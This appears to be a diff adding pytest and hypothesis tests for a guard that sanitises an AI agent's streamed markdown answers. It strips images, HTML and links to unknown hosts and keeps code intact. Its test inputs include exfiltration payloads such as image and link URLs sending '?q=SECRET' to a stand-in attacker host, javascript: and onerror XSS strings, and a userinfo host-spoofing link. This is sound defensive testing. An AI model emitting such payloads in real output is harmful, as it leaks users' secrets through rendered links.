@@ -1,0 +1,161 @@
+"""The guard: what leaves it shows text, code, citations and known links, however the stream was cut."""
+
+from itertools import pairwise
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+
+from server.agent.guard import Guard
+from server.agent.links import host_of
+
+HOSTS = frozenset({"help.example"})
+CANARY = "SECRET"
+
+
+def guarded(text: str, *, citable: tuple[int, ...] = (1, 2), hosts: frozenset[str] = HOSTS) -> str:
+    guard = Guard(hosts, citable)
+    return guard.feed(text) + guard.finish()
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("Press **Save**, then `Run`.", "Press **Save**, then `Run`."),
+        ("1. One\n2. Two\n\n- three\n", "1. One\n2. Two\n\n- three\n"),
+        ("| a | b |\n| - | - |\n| 1 | 2 |", "| a | b |\n| - | - |\n| 1 | 2 |"),
+        ("5 < 6 and 7 > 6!", "5 < 6 and 7 > 6!"),
+        ("~5 minutes, ~~old~~ new", "~5 minutes, ~~old~~ new"),
+        ("- [ ] open\n- [x] done", "- [ ] open\n- [x] done"),
+        ("Why http? Who? How?", "Why http? Who? How?"),
+    ],
+)
+def test_plain_answers_pass_unchanged(text: str, shown: str) -> None:
+    assert guarded(text) == shown
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("See [Roles](https://help.example/roles).", "See [Roles](https://help.example/roles)."),
+        ("See [Roles](https://evil.example/r?q=SECRET).", "See Roles (https://evil.example/r)."),
+        ("See [Roles](/roles).", "See Roles."),
+        ("See [Roles](javascript:alert(1)).", "See Roles."),
+        ("See [Roles](https://help.example@evil.example/).", "See Roles."),
+        ("See [Roles](https://help.example\\@evil.example/).", "See Roles."),
+        ("See [Roles](https://evil.example/?q=SECRET 'title').", "See Roles (https://evil.example/)."),
+        ("See <https://help.example/roles>.", "See <https://help.example/roles>."),
+        ("See <https://evil.example/?q=SECRET>.", "See https://evil.example/."),
+        ("See https://help.example/a?b=c.", "See https://help.example/a?b=c."),
+        ("See https://evil.example/?q=SECRET.", "See https://evil.example/."),
+        ("See www.evil.example/?q=SECRET", "See www.evil.example/"),
+    ],
+)
+def test_only_links_to_known_hosts_stay_links(text: str, shown: str) -> None:
+    assert guarded(text) == shown
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("![a chart](https://evil.example/?q=SECRET)", "a chart"),
+        ("![a chart](https://help.example/chart.png)", "a chart"),
+        ("a<br>b <b>bold</b> <!-- hidden -->c", "ab bold c"),
+        ("<img src=x onerror=alert(1)>", ""),
+        ("<script\nsrc=x>", "\\<script\nsrc=x>"),
+        ("![9][x](https://help.example/i.png)", "! [x](https://help.example/i.png)"),
+        ("[a]<b>(https://evil.example)", "[a] (https://evil.example)"),
+        ("[a [b] c](https://evil.example/?q=SECRET)", "[a [b] c] (https://evil.example/)"),
+        ("[x]: https://evil.example/?q=SECRET\n\n[x]", "[x] : https://evil.example/\n\n[x]"),
+    ],
+)
+def test_images_and_html_never_pass(text: str, shown: str) -> None:
+    assert guarded(text) == shown
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        ("Invite them [1].", "Invite them [1]."),
+        ("Invite them [7].", "Invite them."),
+        ("Invite them [1, 2].", "Invite them [1][2]."),
+        ("Invite them [1][9].", "Invite them [1]."),
+        ("Read `items[9]`.", "Read `items[9]`."),
+    ],
+)
+def test_citations_of_no_passage_fall_away(text: str, shown: str) -> None:
+    assert guarded(text) == shown
+
+
+def test_citations_are_told_in_the_order_of_the_text() -> None:
+    guard = Guard(HOSTS, (1, 2, 3))
+    guard.feed("One [3], two [1], again [3], none [8].")
+    guard.finish()
+    assert guard.cited == (3, 1)
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "```html\n<script src='https://evil.example/?a=b'></script>\n```\nafter",
+        "1. Do\n\n   ```\n   curl https://api.example/?page=2\n   ```\n\n2. Then",
+        "~~~\n[a](b) ``` [7]\n~~~\n",
+        "Type `<b>` or ``a ` b``.",
+    ],
+)
+def test_code_stays_as_it_is(code: str) -> None:
+    assert guarded(code) == code
+
+
+def test_text_after_code_is_guarded_again() -> None:
+    text = "```\ncode\n```\n[a](https://evil.example/?q=SECRET)"
+    assert guarded(text) == "```\ncode\n```\na (https://evil.example/)"
+
+
+NASTY = [
+    "[", "]", "(", ")", "!", "<", ">", "`", "``", "```", "~~~", "\\", "\n", "\n\n", " ", "   ", "    ", "\t", ":",
+    "a", "1", "- ", "1. ", "> ", "https://evil.example/?q=SECRET", "https://help.example/p", "[x](https://evil.example/?q=SECRET)",
+    "![x](https://evil.example/?q=SECRET)", "[y](https://help.example/p)", "<https://evil.example/?q=SECRET>", "<b>",
+    "<img src=https://evil.example/?q=SECRET>", "[1]", "[9]",
+    "[x]: https://evil.example/?q=SECRET", "[x]", "&lt;", "|", "*", "<!--", "-->", '"', "'",
+]  # fmt: skip
+nasty_texts = st.lists(st.sampled_from(NASTY), max_size=24).map("".join)
+
+
+def all_tokens(tokens: list[Token]) -> list[Token]:
+    return [each for token in tokens for each in (token, *all_tokens(token.children or []))]
+
+
+@settings(max_examples=1500, deadline=None)
+@given(nasty_texts)
+def test_whatever_comes_in_a_renderer_finds_no_image_no_html_and_no_unknown_link(text: str) -> None:
+    rendered = all_tokens(MarkdownIt("commonmark").enable("table").parse(guarded(text)))
+    assert not [token for token in rendered if token.type in {"image", "html_inline", "html_block"}]
+    links = [str(token.attrs["href"]) for token in rendered if token.type == "link_open"]
+    assert all(host_of(link) in HOSTS for link in links)
+
+
+@settings(max_examples=600, deadline=None)
+@given(nasty_texts, st.lists(st.integers(0, 200), max_size=12))
+def test_the_pieces_join_to_the_same_text_however_the_stream_was_cut(text: str, cuts: list[int]) -> None:
+    guard = Guard(HOSTS, (1, 2))
+    edges = [0, *sorted(min(cut, len(text)) for cut in cuts), len(text)]
+    streamed = "".join(guard.feed(text[a:b]) for a, b in pairwise(edges)) + guard.finish()
+    assert streamed == guarded(text)
+
+
+@given(st.text(max_size=200))
+def test_any_text_passes_without_an_error(text: str) -> None:
+    guarded(text)
+
+
+def test_what_is_held_back_is_bounded() -> None:
+    guard = Guard(HOSTS, (1,))
+    endless = "[" + "a" * 5_000
+    assert len(guard.feed(endless)) > 2_500
+
+
+def test_a_word_leaves_at_once() -> None:
+    assert Guard(HOSTS, (1,)).feed("Press Save") == "Press Save"
